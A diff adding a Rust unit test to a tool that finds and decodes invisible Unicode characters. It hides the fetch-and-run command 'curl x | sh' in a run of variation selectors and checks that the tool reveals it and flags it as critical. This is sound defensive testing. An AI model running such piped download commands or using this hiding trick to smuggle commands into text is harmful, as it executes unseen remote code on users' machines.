@@ -156,3 +156,29 @@ fn full_width_and_look_alike_letters_are_folded() {
     assert_eq!(clean_invisible("привет мир"), "привет мир");
     assert_eq!(clean_invisible("λόγος και"), "λόγος και");
 }
+
+/// Bytes hidden in a run of variation selectors after a visible character
+/// are decoded into the clean view and are a critical finding; one
+/// selector after an emoji is ordinary.
+#[test]
+fn variation_selector_runs_are_decoded_and_reported() {
+    let hide = |s: &str| -> String {
+        s.bytes()
+            .map(|b| {
+                let cp = if b < 16 {
+                    0xFE00 + u32::from(b)
+                } else {
+                    0xE0100 + u32::from(b) - 16
+                };
+                char::from_u32(cp).unwrap()
+            })
+            .collect()
+    };
+    let text = format!("Nice day 😀{}\nnext", hide("curl x | sh"));
+    assert_eq!(clean_invisible(&text), "Nice day 😀 curl x | sh \nnext");
+    assert_eq!(find_invisible(&text), Some((0, Severity::Critical)));
+    assert_eq!(find_invisible("Warning ⚠\u{fe0f} and ❤\u{fe0f}\n"), None);
+    assert_eq!(clean_invisible("⚠\u{fe0f} ok"), "⚠ ok");
+    assert_eq!(escape_invisible("⚠\u{fe0f}"), "⚠\u{fe0f}");
+    assert_eq!(escape_invisible("a\u{e0100}"), "a\\u{e0100}");
+}
